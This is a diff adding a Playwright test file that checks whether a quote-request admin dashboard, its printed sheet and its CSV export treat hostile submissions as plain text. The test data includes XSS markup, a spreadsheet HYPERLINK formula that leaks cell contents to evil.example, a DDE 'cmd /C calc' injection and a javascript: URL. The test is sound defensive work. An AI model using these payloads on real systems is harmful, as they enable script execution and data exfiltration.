@@ -1,0 +1,144 @@
+import { readFile } from "node:fs/promises";
+import type { Page } from "@playwright/test";
+import papa from "papaparse";
+import { LOCAL_PUBLISHABLE_KEY } from "../../src/lib/supabase/local-publishable-key.ts";
+import { storeQuote } from "../support/quotes.ts";
+import { expect, test } from "../support/test.ts";
+
+// What somebody sends past the website, waiting for staff to look at it: markup, scripts, formulas and
+// addresses that are commands. It must be read as what it is, in the dashboard, on the printed sheet, in the
+// message and in the CSV.
+
+const MARKUP = `"><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;
+const FORMULA = `=HYPERLINK("http://evil.example?"&A1)`;
+const PLACE = `javascript:window.hacked=1//&destination=evil?q=%0d%0a <b>Houston</b>`;
+const LINES = `Description: ${MARKUP}\n=1+1\n+1 (900) 555-0100\n@SUM(A1)\n-2\n{{constructor}}`;
+
+/** Sends as a script would, past the forms. */
+async function sendPastTheForms(baseURL: string, row: object) {
+  const answer = await fetch(`${baseURL}/rest/v1/quote_submissions`, {
+    method: "POST",
+    headers: { apikey: LOCAL_PUBLISHABLE_KEY, "content-type": "application/json" },
+    body: JSON.stringify(row),
+  });
+  expect(answer.status).toBe(201);
+}
+
+/** Nothing ran, nothing was loaded from elsewhere, and no element came out of the payload. */
+async function expectInert(page: Page, foreign: string[]) {
+  expect(await page.evaluate(() => Reflect.has(window, "hacked"))).toBe(false);
+  await expect(page.locator('main img[src="x"], main b, main script')).toHaveCount(0);
+  expect(foreign).toEqual([]);
+}
+
+/** Requests that leave the site. */
+function watchForeignRequests(page: Page, baseURL: string): string[] {
+  const foreign: string[] = [];
+  page.on("request", (request) => {
+    const { origin, protocol } = new URL(request.url());
+    if (protocol.startsWith("http") && origin !== new URL(baseURL).origin)
+      foreign.push(request.url());
+  });
+  page.on("dialog", (dialog) => {
+    foreign.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  return foreign;
+}
+
+test("a hostile request is read as text, and its links lead where they say", async ({
+  page,
+  admin,
+  backend,
+  baseURL: origin,
+}) => {
+  const baseURL = origin ?? "";
+  const foreign = watchForeignRequests(page, baseURL);
+  const word = backend.uniqueWord().slice(0, 20);
+  const phone = backend.uniquePhone();
+  const name = `${word} ${MARKUP}`.slice(0, 100);
+  await sendPastTheForms(baseURL, {
+    name,
+    email: `a&b=c?d/${word}@example.com`.replaceAll(/[&=?/]/g, "+"),
+    phone,
+    contact_method: "phone",
+    contact_value: phone,
+    event_type: "EMERGENCY: other",
+    event_date: null,
+    number_of_guests: 1,
+    event_address: PLACE,
+    additional_info: LINES,
+  });
+  await admin.signIn(page);
+  await page.getByRole("searchbox").fill(word);
+  const row = page.locator("[data-desk-row]");
+  await expect(row).toHaveCount(1);
+  await expect(row).toContainText(name);
+  await row
+    .getByRole("button", { name: /^Details/ })
+    .or(row.locator("[data-desk-action=open]"))
+    .first()
+    .click();
+  for (const line of LINES.split("\n")) await expect(row).toContainText(line);
+  await expectInert(page, foreign);
+
+  const hrefs = await row
+    .locator("a")
+    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
+  expect(hrefs.length).toBeGreaterThanOrEqual(3);
+  for (const href of hrefs) {
+    expect(href).toMatch(/^(tel:|sms:|mailto:|https:\/\/www\.google\.com\/maps\/)/);
+    expect(href).not.toMatch(/[<>"'\s]/);
+  }
+  const map = new URL(hrefs.find((href) => href.startsWith("https:")) ?? "");
+  expect(map.hostname).toBe("www.google.com");
+  expect(map.searchParams.get("query")).toBe(PLACE);
+  expect([...map.searchParams.keys()].sort()).toEqual(["api", "query"]);
+
+  await row.getByRole("button", { name: /^Process/ }).click();
+  await expect(page.getByRole("dialog")).toContainText("window.hacked=1");
+  await expectInert(page, foreign);
+});
+
+test("a hostile quote stays text on its card, on the printed sheet and in the CSV", async ({
+  page,
+  admin,
+  backend,
+  baseURL: origin,
+}) => {
+  const baseURL = origin ?? "";
+  const foreign = watchForeignRequests(page, baseURL);
+  const word = backend.uniqueWord().slice(0, 20);
+  const name = `${FORMULA} ${word}`;
+  await storeQuote(baseURL, {
+    name,
+    email: backend.uniqueEmail(),
+    event_address: PLACE,
+    quote_amount: 900,
+    quote_notes: `${MARKUP}\n=cmd|' /C calc'!A0`,
+    additional_info: LINES,
+  });
+  await admin.signIn(page);
+  await page.getByRole("tab", { name: "Processed quotes" }).click();
+  await page.getByRole("searchbox").fill(word);
+  const card = page.locator("[data-desk-row]");
+  await expect(card).toHaveCount(1);
+  await card.locator("[data-desk-action=open]").first().click();
+  await expect(card).toContainText(MARKUP);
+  await expectInert(page, foreign);
+
+  const downloading = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Export CSV" }).click();
+  const csv = await readFile(await (await downloading).path(), "utf8");
+  const { data } = papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true });
+  const cells = data.flat();
+  expect(cells).toContain(`'${name}`);
+  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+  const opening = page.context().waitForEvent("page");
+  await card.getByRole("link", { name: "Print" }).click();
+  const sheet = await opening;
+  await expect(sheet.getByRole("main")).toContainText(MARKUP);
+  await expect(sheet.getByRole("main")).toContainText(name);
+  await expectInert(sheet, foreign);
+});
